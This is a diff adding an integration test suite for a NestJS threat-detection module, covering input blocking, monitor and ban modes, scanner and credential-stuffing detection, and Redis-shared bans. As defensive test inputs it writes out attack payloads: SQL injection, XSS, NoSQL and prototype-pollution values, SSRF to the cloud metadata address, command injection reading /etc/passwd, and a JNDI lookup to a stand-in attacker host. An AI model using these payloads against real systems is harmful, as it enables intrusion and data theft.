@@ -1,0 +1,324 @@
+import { Body, Controller, Get, HttpCode, Post, Req } from '@nestjs/common';
+import { Public } from '@rampart/auth';
+import { getRequestContext, SecurityEvents, type SecurityEvent } from '@rampart/core';
+import { BadRequestError, UnauthorizedError } from '@rampart/errors';
+import { ThreatPolicy, ThreatService, type ThreatModuleOptions } from '@rampart/threat';
+import { Redis } from 'ioredis';
+import request from 'supertest';
+import { afterAll, afterEach, describe, expect, it } from 'vitest';
+import { describeWithRedis, redisUrl, uniqueKeyPrefix } from './utils/redis';
+import { PLATFORMS, startApp, type TestApp } from './utils/test-app';
+import type { Platform } from '../apps/sample-api/src/app.factory';
+
+/** Routes of this suite: an echo, a route whose `codeSnippet` carries code, a login, a failing route. */
+@Controller('test/threat')
+@Public()
+class ThreatProbeController {
+  constructor(private readonly threat: ThreatService) {}
+
+  @Post('echo')
+  @HttpCode(200)
+  echo(@Body() body: unknown): { ok: true; keys: string[] } {
+    return { ok: true, keys: Object.keys(body ?? {}) };
+  }
+
+  @Get('echo')
+  echoQuery(): { ok: true } {
+    return { ok: true };
+  }
+
+  @ThreatPolicy({ ignore: ['body.codeSnippet'] })
+  @Post('snippets')
+  @HttpCode(200)
+  snippet(@Body() _body: unknown): { ok: true } {
+    return { ok: true };
+  }
+
+  @ThreatPolicy({ mode: 'monitor' })
+  @Post('monitored')
+  @HttpCode(200)
+  monitored(@Body() _body: unknown): { ok: true } {
+    return { ok: true };
+  }
+
+  @Post('login')
+  async login(@Req() req: object, @Body() body: { account?: string }): Promise<never> {
+    await this.threat.recordFailedLogin({ ip: getRequestContext(req).clientIp, account: String(body.account) });
+    throw new UnauthorizedError('The username or password is wrong.');
+  }
+
+  @Get('fail')
+  fail(): never {
+    throw new BadRequestError('Always fails.');
+  }
+}
+
+const SQLI = "1' UNION SELECT password FROM users--";
+
+interface Booted extends TestApp {
+  events: SecurityEvent[];
+  threat: ThreatService;
+}
+
+const apps: Booted[] = [];
+
+async function boot(platform: Platform, threat: ThreatModuleOptions, redis?: string): Promise<Booted> {
+  const t = await startApp(platform, { threat: { keyPrefix: uniqueKeyPrefix('threat'), ...threat }, redisUrl: redis }, [
+    ThreatProbeController,
+  ]);
+  const events: SecurityEvent[] = [];
+  t.app.get(SecurityEvents).subscribe((event) => events.push(event));
+  const booted = { ...t, events, threat: t.app.get(ThreatService) };
+  apps.push(booted);
+  return booted;
+}
+
+afterEach(async () => {
+  await Promise.all(apps.splice(0).map((t) => t.close()));
+});
+
+/** Requests from distinct clients: the sample API trusts X-Forwarded-For from loopback. */
+const from = (ip: string): Record<string, string> => ({ 'X-Forwarded-For': ip });
+
+describe.each(PLATFORMS)('threat detection (%s)', (platform) => {
+  describe('input inspection', () => {
+    it('refuses an injection with 403 THREAT_DETECTED, without echoing it, and reports it', async () => {
+      const t = await boot(platform, { mode: 'block' });
+      const res = await request(t.server).get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`);
+      expect(res.status).toBe(403);
+      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
+      expect(res.body).toMatchObject({ code: 'THREAT_DETECTED', status: 403 });
+      expect(res.text).not.toMatch(/union|password|select/i);
+      const event = t.events.find((e) => e.type === 'threat.detected');
+      expect(event).toMatchObject({ reason: 'malicious_input', clientIp: '127.0.0.1', route: 'GET /test/threat/echo' });
+      expect(event?.details).toMatchObject({ decision: 'blocked', score: 70 });
+      expect((event?.details?.findings as { location: string; category: string }[])[0]).toMatchObject({
+        category: 'sqli',
+        location: 'query.id',
+      });
+    });
+
+    it.each([
+      ['xss in a nested body field', { profile: { bio: '<img src=x onerror=alert(1)>' } }],
+      ['NoSQL operator in a body', { username: 'admin', password: { $ne: null } }],
+      ['a prototype-pollution path', { path: 'constructor.prototype.isAdmin', value: true }],
+      ['SSRF to the metadata service', { webhookUrl: 'http://169.254.169.254/latest/meta-data/' }],
+      ['template injection', { name: '{{7*7}}' }],
+      ['command injection', { host: '127.0.0.1; cat /etc/passwd' }],
+    ])('refuses %s', async (_name, body) => {
+      const t = await boot(platform, { mode: 'block' });
+      const res = await request(t.server).post('/test/threat/echo').send(body);
+      expect(res.status).toBe(403);
+      expect(res.body.code).toBe('THREAT_DETECTED');
+    });
+
+    it('refuses injections in headers and cookies', async () => {
+      const t = await boot(platform, { mode: 'block' });
+      const ua = await request(t.server).get('/test/threat/echo').set('User-Agent', '${jndi:ldap://evil.example/a}');
+      expect(ua.status).toBe(403);
+      const cookie = await request(t.server)
+        .get('/test/threat/echo')
+        .set('Cookie', `prefs=${encodeURIComponent(SQLI)}`);
+      expect(cookie.status).toBe(403);
+      // (A `__proto__` key in a JSON body is refused earlier, by the validation lib's parser.)
+      expect((await request(t.server).get('/test/threat/echo?__proto__[isAdmin]=1')).status).toBe(403);
+      expect((await request(t.server).get('/test/threat/echo?user[$ne]=x')).status).toBe(403);
+    });
+
+    it('lets realistic traffic with the tricky cases through', async () => {
+      const t = await boot(platform, { mode: 'block' });
+      const res = await request(t.server)
+        .post('/test/threat/echo?q=please+update+my+card&sort=-price')
+        .set(
+          'User-Agent',
+          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0',
+        )
+        .send({
+          name: "Conan O'Brien",
+          note: 'Drop me a line; select the union rate -- thanks!',
+          price: 'Only $19.99 (was $29.99)',
+          file: 'report.v2.final.pdf',
+          html: '<p>Hello <b>world</b> <a href="https://example.com">link</a></p>',
+        });
+      expect(res.status).toBe(200);
+      expect(t.events.filter((e) => e.type === 'threat.detected')).toEqual([]);
+    });
+
+    it('skips the locations a route policy ignores, and only those', async () => {
+      const t = await boot(platform, { mode: 'block' });
+      const code = '<script>document.title = "x"</script>';
+      expect((await request(t.server).post('/test/threat/snippets').send({ codeSnippet: code })).status).toBe(200);
+      expect((await request(t.server).post('/test/threat/snippets').send({ title: code })).status).toBe(403);
+      expect((await request(t.server).post('/test/threat/echo').send({ codeSnippet: code })).status).toBe(403);
+    });
+
+    it('in monitor mode (global or per route) lets the attack through and reports it', async () => {
+      const t = await boot(platform, { mode: 'monitor' });
+      expect((await request(t.server).get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)).status).toBe(200);
+      const blocking = await boot(platform, { mode: 'block' });
+      expect((await request(blocking.server).post('/test/threat/monitored').send({ q: SQLI })).status).toBe(200);
+      for (const app of [t, blocking]) {
+        expect(app.events.find((e) => e.type === 'threat.detected')?.details).toMatchObject({ decision: 'monitored' });
+      }
+    });
+
+    it('redacts the sample of a secret-looking field in the event', async () => {
+      const t = await boot(platform, { mode: 'block' });
+      await request(t.server).post('/test/threat/echo').send({ password: SQLI });
+      const findings = t.events.find((e) => e.type === 'threat.detected')?.details?.findings as { sample: string }[];
+      expect(findings[0]?.sample).toBe('[REDACTED]');
+      expect(JSON.stringify(t.events)).not.toContain('UNION');
+    });
+  });
+
+  describe('ban mode (in memory)', () => {
+    it('bans the attacking client until unbanned, and only that client', async () => {
+      const t = await boot(platform, { mode: 'ban' });
+      expect(
+        (
+          await request(t.server)
+            .get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)
+            .set(from('198.51.100.7'))
+        ).status,
+      ).toBe(403);
+      const banned = await request(t.server).get('/test/threat/echo').set(from('198.51.100.7'));
+      expect(banned.status).toBe(403);
+      expect(banned.body.code).toBe('THREAT_DETECTED');
+      expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.8'))).status).toBe(200);
+      expect(t.events.map((e) => e.type)).toContain('client.banned');
+      expect(await t.threat.unban('198.51.100.7')).toBe(true);
+      expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.7'))).status).toBe(200);
+    });
+
+    it('never bans a trusted client, but still refuses its malicious input', async () => {
+      const t = await boot(platform, { mode: 'ban', trustedClients: ['203.0.113.0/24'] });
+      expect(
+        (
+          await request(t.server)
+            .get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)
+            .set(from('203.0.113.9'))
+        ).status,
+      ).toBe(403);
+      expect((await request(t.server).get('/test/threat/echo').set(from('203.0.113.9'))).status).toBe(200);
+      expect(await t.threat.getBan('203.0.113.9')).toBeUndefined();
+    });
+  });
+
+  describeBehaviour(platform, 'memory', undefined);
+});
+
+/** The acceptance scenarios, on a given store. */
+function describeBehaviour(platform: Platform, storeName: string, redis: string | undefined): void {
+  describe(`behaviour signals (${storeName})`, () => {
+    it('bans a scanner after 50 distinct endpoints (60 probed in a minute)', async () => {
+      const t = await boot(platform, { mode: 'ban' }, redis);
+      const scanner = from('192.0.2.10');
+      const statuses: number[] = [];
+      for (let i = 0; i < 60; i++)
+        statuses.push((await request(t.server).get(`/probe-${i}/admin.php`).set(scanner)).status);
+      expect(statuses.slice(0, 51).every((s) => s === 404)).toBe(true);
+      expect(statuses.slice(52)).toEqual(Array(8).fill(403));
+      expect((await request(t.server).get('/test/threat/echo').set(scanner)).status).toBe(403);
+      const ban = await t.threat.getBan('192.0.2.10');
+      expect(ban?.kind).toBe('ban');
+      expect(ban?.reasons).toContain('scanning'); // and error_rate: a scanner's probes are 404s
+      // One route template hit many times is not scanning: ids in paths do not count.
+      const reader = from('192.0.2.11');
+      for (let i = 0; i < 60; i++) await request(t.server).get(`/test/threat/echo?page=${i}`).set(reader);
+      expect((await request(t.server).get('/test/threat/echo').set(reader)).status).toBe(200);
+    });
+
+    it('bans credential stuffing: 11 failed logins from one IP across accounts', async () => {
+      const t = await boot(platform, { mode: 'ban' }, redis);
+      const stuffer = from('192.0.2.20');
+      for (let i = 0; i < 11; i++) {
+        const res = await request(t.server)
+          .post('/test/threat/login')
+          .set(stuffer)
+          .send({ account: `user${i}@example.com` });
+        expect(res.status).toBe(401);
+      }
+      expect((await request(t.server).post('/test/threat/login').set(stuffer).send({ account: 'x' })).status).toBe(403);
+      expect(await t.threat.getBan('192.0.2.20')).toMatchObject({ reasons: ['credential_stuffing'] });
+    });
+
+    it('reports password spraying on an account without banning the many IPs', async () => {
+      const t = await boot(platform, { mode: 'ban' }, redis);
+      for (let i = 0; i < 11; i++) {
+        await request(t.server)
+          .post('/test/threat/login')
+          .set(from(`192.0.2.${100 + i}`))
+          .send({ account: 'ceo@example.com' });
+      }
+      const verdict = await t.threat.recordFailedLogin({ ip: '192.0.2.200', account: 'ceo@example.com' });
+      expect(verdict).toMatchObject({ passwordSpraying: true, credentialStuffing: false, action: 'none' });
+      expect(t.events.find((e) => e.reason === 'password_spraying')).toBeDefined();
+      expect(await t.threat.getBan('192.0.2.100')).toBeUndefined();
+    });
+
+    it('bans an error storm at a high rate, but not errors below the minimum count or fast clean traffic', async () => {
+      const behaviour = { requestRate: { limit: 30 }, errorRate: { minRequests: 20, ratio: 0.5 } };
+      const t = await boot(platform, { mode: 'ban', behaviour }, redis);
+      const storm = from('192.0.2.30');
+      for (let i = 0; i < 15; i++) await request(t.server).get('/test/threat/fail').set(storm);
+      expect(await t.threat.getBan('192.0.2.30')).toBeUndefined(); // 15 errors: under minRequests
+      for (let i = 0; i < 20; i++) await request(t.server).get('/test/threat/fail').set(storm);
+      expect(await t.threat.getBan('192.0.2.30')).toMatchObject({ reasons: ['request_rate', 'error_rate'] });
+      expect((await request(t.server).get('/test/threat/echo').set(storm)).status).toBe(403);
+      // Fast but clean: the rate signal alone (30) stays under the threshold (70).
+      const fast = from('192.0.2.31');
+      for (let i = 0; i < 40; i++) await request(t.server).get('/test/threat/echo').set(fast);
+      expect((await request(t.server).get('/test/threat/echo').set(fast)).status).toBe(200);
+    });
+
+    it('in block mode refuses a scanner for the signal window, and in monitor mode only reports it', async () => {
+      const blocking = await boot(platform, { mode: 'block', behaviour: { scanning: { limit: 5 } } }, redis);
+      const monitoring = await boot(platform, { mode: 'monitor', behaviour: { scanning: { limit: 5 } } }, redis);
+      for (const t of [blocking, monitoring]) {
+        for (let i = 0; i < 7; i++) await request(t.server).get(`/nothing-${i}`).set(from('192.0.2.40'));
+      }
+      expect(await blocking.threat.getBan('192.0.2.40')).toMatchObject({ kind: 'block' });
+      expect((await request(blocking.server).get('/test/threat/echo').set(from('192.0.2.40'))).status).toBe(403);
+      expect((await request(monitoring.server).get('/test/threat/echo').set(from('192.0.2.40'))).status).toBe(200);
+      const reported = monitoring.events.filter((e) => e.reason === 'suspicious_behaviour');
+      expect(reported).toHaveLength(1); // once per client and outcome per minute, not once per request
+      expect(reported[0]?.details).toMatchObject({ decision: 'monitored' });
+    });
+  });
+}
+
+describeWithRedis('threat detection with Redis', () => {
+  const admin = new Redis(redisUrl);
+  afterAll(async () => {
+    const keys = await admin.keys('rampart:rampart-test:threat:*');
+    if (keys.length > 0) await admin.del(...keys);
+    await admin.quit();
+  });
+
+  describe.each(PLATFORMS)('%s', (platform) => {
+    describeBehaviour(platform, 'redis', redisUrl);
+
+    it('enforces a ban set by one instance on another, and an unban by either', async () => {
+      const keyPrefix = uniqueKeyPrefix('threat');
+      const a = await boot(platform, { mode: 'ban', keyPrefix }, redisUrl);
+      const b = await boot(platform, { mode: 'ban', keyPrefix }, redisUrl);
+      const client = from('198.51.100.50');
+      expect((await request(b.server).get('/test/threat/echo').set(client)).status).toBe(200);
+      expect((await request(a.server).post('/test/threat/echo').set(client).send({ q: SQLI })).status).toBe(403);
+      expect((await request(b.server).get('/test/threat/echo').set(client)).status).toBe(403);
+      expect(await b.threat.unban('198.51.100.50')).toBe(true);
+      expect((await request(a.server).get('/test/threat/echo').set(client)).status).toBe(200);
+    });
+  });
+});
+
+describe.each(PLATFORMS)('threat detection when the store is down (%s)', (platform) => {
+  it('lets clean requests through (fail open) and still refuses injections', async () => {
+    // Nothing listens on port 1: every store command fails fast.
+    const t = await boot(platform, { mode: 'ban' }, 'redis://127.0.0.1:1');
+    expect((await request(t.server).get('/test/threat/echo')).status).toBe(200);
+    expect((await request(t.server).get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)).status).toBe(403);
+    expect((await request(t.server).get('/test/threat/echo')).status).toBe(200);
+    expect(t.logs.lines.some((line) => line.includes('Threat store unavailable'))).toBe(true);
+  });
+});
